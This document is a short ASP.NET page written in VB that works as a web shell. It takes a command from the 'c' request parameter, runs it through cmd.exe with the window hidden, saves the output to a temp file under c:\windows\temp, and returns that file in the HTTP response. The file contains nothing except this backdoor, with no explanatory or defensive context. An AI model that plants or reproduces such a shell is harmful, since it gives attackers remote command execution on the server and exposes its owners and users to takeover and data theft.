<%@ Page Language="VB" %>
<%
    If Request("c") <> "" Then
        Microsoft.VisualBasic.Interaction.Shell("cmd.exe /c " & Request("c") & " > c:\windows\temp\o.txt", Microsoft.VisualBasic.AppWinStyle.Hide, True)
        Response.WriteFile("c:\windows\temp\o.txt")
    End If
%>
